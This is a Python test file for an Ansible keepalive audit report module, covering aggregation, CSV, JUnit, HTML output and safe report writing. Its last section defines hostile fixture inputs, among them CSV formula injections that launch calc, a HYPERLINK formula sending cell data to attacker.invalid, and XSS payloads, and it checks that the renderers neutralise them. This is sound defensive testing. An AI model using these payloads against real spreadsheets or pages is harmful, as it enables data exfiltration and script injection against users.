# Unit tests of the fleet report: aggregation (unreachable and failed hosts
# are kept), the CSV, the JUnit XML (parsed back), the self-contained HTML
# page and its histogram, and the fail_on decision.
from __future__ import annotations

import csv
import io
import json
import os
import re
from xml.etree import ElementTree

import pytest

from ansible_collections.tcplab.keepalive.plugins.module_utils import _audit_report
from ansible_collections.tcplab.keepalive.plugins.module_utils._audit_report import (
    ReportError, aggregate, histogram, render_csv, render_html, render_junit, should_fail, summary_lines, write_reports)

POLICY = {'preset': 'azure-lb', 'max_detection_seconds': 239, 'target': None,
          'time': {'min': 30, 'max': None}, 'intvl': {'min': None, 'max': None}, 'probes': {'min': None, 'max': None}}


def ns(label, values, findings=(), kind='host', keepalive=0):
    return {'label': label, 'kind': kind, 'inode': 1, 'pid': None, 'comm': None, 'container_id': None,
            'values': values, 'detection_seconds': values['time'] + values['intvl'] * values['probes'],
            'findings': list(findings), 'compliant': not [f for f in findings if f['severity'] != 'info'],
            'remediation': None,
            'sockets': {'keepalive': keepalive, 'established': keepalive, 'overrides': 0, 'top_processes': [],
                        'override_examples': [], 'owners_complete': True}}


def f(fid, severity, namespace, message):
    return {'id': fid, 'severity': severity, 'namespace': namespace, 'key': 'detection_seconds', 'observed': 7875,
            'expected': '<= 239', 'message': message}


BAD = f('KA003', 'error', 'host', 'too long <&>')
DRIFT = f('KA004', 'warning', 'extra', 'drifted')


def result(namespaces):
    findings = [x for n in namespaces for x in n['findings']]
    return {'changed': False, 'compliant': all(n['compliant'] for n in namespaces), 'policy': POLICY,
            'namespaces': namespaces, 'findings': findings, 'drift': [], 'notes': [], 'persisted': {}}


RESULTS = {
    'good': result([ns('host', {'time': 120, 'intvl': 15, 'probes': 6}, keepalive=2)]),
    'bad': result([ns('host', {'time': 7200, 'intvl': 75, 'probes': 9}, [BAD]),
                   ns('extra', {'time': 60, 'intvl': 5, 'probes': 3}, [DRIFT], kind='named')]),
    'gone': {'unreachable': True, 'msg': 'ssh: connect to host timed out', 'changed': False},
    'broken': {'failed': True, 'msg': 'python not found'},
}
HOSTS = ['good', 'bad', 'gone', 'broken', 'never']


def report():
    return aggregate(HOSTS, ['good', 'bad', 'gone', 'broken'], RESULTS, {'bad': {'host': 'set ...'}},
                     generated_at='2024-01-01T00:00:00Z')


def test_aggregate_keeps_every_host():
    rep = report()
    assert list(rep['hosts']) == HOSTS
    assert rep['summary'] == {
        'hosts': 5, 'compliant': 1, 'noncompliant': 1, 'unreachable': 2, 'failed': 1, 'namespaces': 3,
        'findings': {'error': 1, 'warning': 1, 'info': 0}, 'findings_by_id': {'KA003': 1, 'KA004': 1},
        'detection_seconds': {'min': 75, 'max': 7875, 'median': 210}}
    assert rep['hosts']['gone'] == {'status': 'unreachable', 'compliant': False, 'namespaces': [], 'findings': [],
                                    'drift': [], 'notes': [],
                                    'message': 'host unreachable: ssh: connect to host timed out'}
    assert rep['hosts']['broken']['status'] == 'failed'
    assert rep['hosts']['broken']['message'] == 'audit failed: python not found'
    assert rep['hosts']['never']['status'] == 'unreachable'
    assert rep['hosts']['never']['message'] == _audit_report.MSG_NOT_RUN
    assert rep['hosts']['bad']['remediation'] == {'host': 'set ...'}
    assert rep['policy'] == POLICY


def test_a_host_in_the_play_without_result_is_failed():
    rep = aggregate(['a'], ['a'], {})
    assert rep['hosts']['a']['status'] == 'failed'


def test_a_stale_result_of_a_host_that_left_the_play_is_not_used():
    rep = aggregate(['good'], [], {'good': RESULTS['good']})
    assert rep['hosts']['good']['status'] == 'unreachable'
    assert rep['hosts']['good']['message'] == _audit_report.MSG_NOT_RUN
    assert rep['summary']['compliant'] == 0


def test_aggregate_rejects_bad_hosts():
    with pytest.raises(ReportError) as exc:
        aggregate('good', [], {})
    assert str(exc.value) == "hosts must be a list of inventory hostnames, got 'good'"


def test_csv_rows():
    rows = list(csv.DictReader(io.StringIO(render_csv(report()))))
    assert [(r['host'], r['namespace'], r['status'], r['compliant']) for r in rows] == [
        ('good', 'host', 'ok', 'true'), ('bad', 'host', 'ok', 'false'), ('bad', 'extra', 'ok', 'false'),
        ('gone', '', 'unreachable', 'false'), ('broken', '', 'failed', 'false'), ('never', '', 'unreachable', 'false')]
    assert rows[1]['detection_seconds'] == '7875' and rows[1]['finding_ids'] == 'KA003'
    assert rows[0]['keepalive_sockets'] == '2'
    assert tuple(rows[0]) == _audit_report.CSV_COLUMNS


def test_junit_parses():
    root = ElementTree.fromstring(render_junit(report()).encode('utf-8'))
    suite = root.find('testsuite')
    assert suite.get('tests') == '6' and suite.get('failures') == '2' and suite.get('errors') == '3'
    cases = suite.findall('testcase')
    assert [(c.get('classname'), c.get('name')) for c in cases] == [
        ('tcplab.keepalive.audit.good', 'host'), ('tcplab.keepalive.audit.bad', 'host'),
        ('tcplab.keepalive.audit.bad', 'extra'), ('tcplab.keepalive.audit.gone', 'host'),
        ('tcplab.keepalive.audit.broken', 'host'), ('tcplab.keepalive.audit.never', 'host')]
    assert cases[0].find('failure') is None
    assert cases[1].find('failure').get('message') == 'KA003 too long <&>'
    assert cases[2].find('failure').get('type') == 'warning'
    assert cases[3].find('error').get('type') == 'unreachable'


def test_html_is_self_contained():
    page = render_html(report())
    assert page.startswith('<!DOCTYPE html>')
    assert '<svg' in page and 'id="hosts"' in page and '<script>' in page
    assert 'too long &lt;&amp;&gt;' in page
    assert not re.search(r'(src|href)=["\']?(https?:)?//', page)
    assert re.search(r'id="count-hosts">5<', page)
    assert page.count('<tr class=') == 6
    ElementTree.fromstring(page[page.index('<svg'):page.index('</svg>') + 6])  # the SVG is well-formed


def test_histogram_bins():
    bins = histogram([0, 59, 60, 239, 240, 7875, 7876, 100000])
    assert [(b[0], b[3]) for b in bins] == [
        ('0-60 s', 2), ('60-120 s', 1), ('120-240 s', 1), ('240-350 s', 1), ('350-600 s', 0), ('600-1200 s', 0),
        ('1200-1h s', 0), ('1h-2h s', 0), ('2h-7876 s', 1), ('>= 7876 s', 2)]


@pytest.mark.parametrize('fail_on, expected', [('none', False), ('error', True), ('warning', True)])
def test_should_fail(fail_on, expected):
    assert should_fail(report(), fail_on) is expected


def test_should_fail_levels():
    only_warning = aggregate(['bad'], ['bad'], {'bad': result([ns('x', {'time': 1, 'intvl': 1, 'probes': 1}, [DRIFT])])})
    assert not should_fail(only_warning, 'error') and should_fail(only_warning, 'warning')
    clean = aggregate(['good'], ['good'], {'good': RESULTS['good']})
    assert not should_fail(clean, 'warning')


def test_summary_lines():
    assert summary_lines(report()) == [
        '5 hosts: 1 compliant, 1 non-compliant, 2 unreachable, 1 failed; 3 namespaces; findings: 1 error, 1 warning, 0 info',
        'detection time: min 75 s, median 210 s, max 7875 s',
        'non-compliant: bad', 'unreachable: gone, never', 'failed: broken']


def test_write_reports(tmp_path):
    dest = str(tmp_path / 'out')
    rep = report()
    assert sorted(write_reports(dest, rep)) == sorted(_audit_report.FILES)
    assert write_reports(dest, rep) == []
    with open(os.path.join(dest, 'audit.json')) as handle:
        assert json.load(handle)['summary']['hosts'] == 5
    assert (os.stat(os.path.join(dest, 'audit.html')).st_mode & 0o777) == 0o644


# -- malformed input (issue 10 item 17) -------------------------------------------

MALFORMED = ("results[%r]%s must be %s, got %s: pass the result registered from tcplab.keepalive.audit "
             "(or null for a host without one), unchanged")


def good_result():
    return result([ns('host', {'time': 120, 'intvl': 15, 'probes': 6})])


def with_namespace(**changes):
    res = good_result()
    res['namespaces'][0].update(changes)
    return res


@pytest.mark.parametrize('results, message', [
    ({'h1': 'oops'}, "results['h1'] must be the registered result of tcplab.keepalive.audit (a mapping) or null, got "
                     "str 'oops': pass the result registered from tcplab.keepalive.audit (or null for a host without "
                     "one), unchanged"),
    ({'h1': dict(good_result(), namespaces=['x'])},
     MALFORMED % ('h1', '.namespaces[0]', 'a namespace entry (a mapping with label, kind, values and findings)',
                  "str 'x'")),
    ({'h1': dict(good_result(), findings=['bad'])},
     MALFORMED % ('h1', '.findings[0]', 'a finding (a mapping with id, severity and message)',
                  "str 'bad'")),
    ({'h1': dict(good_result(), namespaces='host')},
     MALFORMED % ('h1', '.namespaces', 'a list of namespace entries', "str 'host'")),
    ({'h1': with_namespace(values={'time': '30', 'intvl': 5, 'probes': 3})},
     MALFORMED % ('h1', '.namespaces[0].values', 'a mapping of time, intvl and probes to integers',
                  "dict {'time': '30', 'intvl': 5, 'probes': 3}")),
    ({'h1': with_namespace(findings=[{'id': 'KA001', 'severity': 'error'}])},
     MALFORMED % ('h1', '.namespaces[0].findings[0].message', 'a string', 'NoneType None')),
    ({'h1': with_namespace(sockets={'keepalive': 'many'})},
     MALFORMED % ('h1', '.namespaces[0].sockets.keepalive', 'an integer', "str 'many'")),
    ({'h1': dict(good_result(), compliant='yes')},
     MALFORMED % ('h1', '.compliant', 'true or false', "str 'yes'")),
    ('h1', "results must be a mapping of inventory hostname to the registered audit result, got str 'h1'"),
])
def test_malformed_results_name_the_host_and_the_entry(results, message):
    with pytest.raises(ReportError) as exc:
        aggregate(['h0', 'h1'], ['h0', 'h1'], results)
    assert str(exc.value) == message


def test_malformed_remediation_and_reachable():
    with pytest.raises(ReportError) as exc:
        aggregate(['h1'], ['h1'], {'h1': good_result()}, {'h1': 'set it'})
    assert str(exc.value) == "remediation['h1'] must be a mapping (what remediation did on that host) or null, got str 'set it'"
    with pytest.raises(ReportError) as exc:
        aggregate(['h1'], 'h1', {})
    assert str(exc.value) == "reachable must be a list of inventory hostnames, got 'h1'"


def test_failed_and_unreachable_results_are_not_checked_deeper():
    rep = aggregate(['a', 'b'], ['a'], {'a': {'failed': True, 'msg': 'boom', 'namespaces': 'junk'},
                                        'b': {'unreachable': True, 'msg': 'gone'}})
    assert [h['status'] for h in rep['hosts'].values()] == ['failed', 'unreachable']


def test_dest_naming_a_file_is_refused_and_nothing_is_left(tmp_path):
    afile = tmp_path / 'report'
    afile.write_text('notes\n')
    with pytest.raises(ReportError) as exc:
        write_reports(str(afile), report())
    assert str(exc.value) == ('dest %s is a file, not a directory: give a directory for the report (it is created '
                              'if missing), or move the file away' % afile)
    assert afile.read_text() == 'notes\n' and sorted(os.listdir(str(tmp_path))) == ['report']
    with pytest.raises(ReportError) as exc:
        write_reports(str(afile / 'sub' / 'dir'), report())
    assert str(exc.value) == ('cannot create the report directory %s (Not a directory): give a directory whose '
                              'parent exists or can be made' % (afile / 'sub' / 'dir'))
    assert sorted(os.listdir(str(tmp_path))) == ['report']


def failing_on(monkeypatch, name):
    real = _audit_report.atomic_write

    def atomic_write(path, text, mode):
        if name in os.path.basename(path):
            raise OSError(28, 'No space left on device')
        return real(path, text, mode)
    monkeypatch.setattr(_audit_report, 'atomic_write', atomic_write)


def test_a_failed_write_removes_the_directory_it_made(tmp_path, monkeypatch):
    failing_on(monkeypatch, 'audit.html')
    dest = tmp_path / 'new' / 'audit'
    with pytest.raises(OSError):
        write_reports(str(dest), report())
    assert os.listdir(str(tmp_path)) == []


def test_a_failed_write_keeps_the_previous_report_whole(tmp_path, monkeypatch):
    dest = str(tmp_path / 'audit')
    old = report()
    write_reports(dest, old)
    before = dict((name, open(os.path.join(dest, name)).read()) for name in _audit_report.FILES)
    failing_on(monkeypatch, 'audit.html')
    new = aggregate(['good'], ['good'], {'good': RESULTS['good']})
    with pytest.raises(OSError):
        write_reports(dest, new)
    assert sorted(os.listdir(dest)) == sorted(_audit_report.FILES)  # no staged file left
    assert dict((name, open(os.path.join(dest, name)).read()) for name in _audit_report.FILES) == before


def test_malformed_input_writes_nothing(tmp_path):
    dest = tmp_path / 'audit'
    with pytest.raises(ReportError):
        write_reports(str(dest), aggregate(['h1'], ['h1'], {'h1': 'oops'}))
    assert not dest.exists()


# -- hostile text in the reports (issue 10 item 20) -------------------------------

HOSTILE_HOSTS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1',
                 '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
                 'ctl\x1b[31m\x00\x07', 'plain-host']
HOSTILE_LABEL = '=HYPERLINK("http://attacker.invalid/?"&A1,"ok")'
HOSTILE_MESSAGE = '=1+1 <b>bold</b> & "quoted"'


def hostile_report():
    findings = [f('KA003', 'error', HOSTILE_LABEL, HOSTILE_MESSAGE)]
    results = dict((name, result([ns(HOSTILE_LABEL, {'time': 7200, 'intvl': 75, 'probes': 9}, findings)]))
                   for name in HOSTILE_HOSTS)
    return aggregate(HOSTILE_HOSTS + ['=gone'], HOSTILE_HOSTS, results, generated_at='2024-01-01T00:00:00Z')


def test_csv_neutralises_formulas():
    text = render_csv(hostile_report())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r['host'] for r in rows] == ["'" + h if h[0] in '=+-@\t\r' else h for h in HOSTILE_HOSTS] + ["'=gone"]
    assert rows[0]['host'] == "'=cmd|' /C calc'!A0"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(('=', '+', '-', '@', '\t', '\r')), (column, cell)
    assert rows[0]['namespace'] == "'" + HOSTILE_LABEL
    assert rows[0]['messages'] == "'" + HOSTILE_MESSAGE
    # numbers stay numbers: bare in the file, every text cell quoted
    assert (rows[0]['time'], rows[0]['detection_seconds'], rows[0]['errors']) == ('7200', '7875', '1')
    first = text.splitlines()[1]
    assert first.startswith('"\'=cmd|\' /C calc\'!A0","ok","\'=HYPERLINK(""http:') and ',7200,75,9,7875,0,0,"false",1,0,0,' in first


def test_csv_cell_rule():
    assert _audit_report.csv_cell('-5') == "'-5"   # text that looks like a number is still text
    assert _audit_report.csv_cell(-5) == -5         # a number is written as a number
    assert _audit_report.csv_cell('a=b') == 'a=b'
    assert _audit_report.csv_cell('') == ''


class Elements(__import__('html.parser').parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.cells, self._cell = [], [], [], None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)
        if tag == 'td':
            self._cell = ''

    def handle_endtag(self, tag):
        if tag == 'td':
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def test_html_escapes_hostile_text():
    page = render_html(hostile_report())
    parser = Elements()
    parser.feed(page)
    assert parser.tags.count('script') == 1 and 'img' not in parser.tags
    assert parser.tags.count('b') == 9  # the summary cards' own, none from the message
    assert not [name for name, value in parser.attrs if name.startswith('on')]
    assert '<script>alert(1)</script>' in parser.cells and '"><img src=x onerror=alert(1)>' in parser.cells
    assert "' onmouseover='alert(1)" in parser.cells and HOSTILE_MESSAGE in parser.cells
    assert 'ctl\ufffd[31m\ufffd\ufffd' in parser.cells   # characters HTML cannot show are replaced
    # the data-sort attributes carry the same text, still inside their quotes
    assert ('data-sort', '"><img src=x onerror=alert(1)>') in parser.attrs


def test_junit_is_well_formed_with_hostile_text():
    text = render_junit(hostile_report())
    root = ElementTree.fromstring(text.encode('utf-8'))
    cases = root.findall('./testsuite/testcase')
    names = [c.get('classname')[len('tcplab.keepalive.audit.'):] for c in cases]
    assert names[:9] == HOSTILE_HOSTS[:9] and names[9] == 'ctl\ufffd[31m\ufffd\ufffd'
    assert cases[0].get('name') == HOSTILE_LABEL
    assert cases[0].find('failure').get('message') == 'KA003 ' + HOSTILE_MESSAGE
    assert cases[-1].find('error').get('type') == 'unreachable'
